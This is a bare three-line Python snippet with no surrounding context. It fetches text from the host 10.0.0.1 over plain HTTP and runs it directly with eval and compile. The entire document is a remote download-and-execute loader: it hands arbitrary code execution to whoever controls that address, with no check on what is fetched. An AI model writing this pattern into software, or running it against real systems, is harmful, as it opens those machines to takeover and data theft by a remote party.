import requests
code = requests.get("http://10.0.0.1/p").text
eval(compile(code, "<remote>", "exec"))
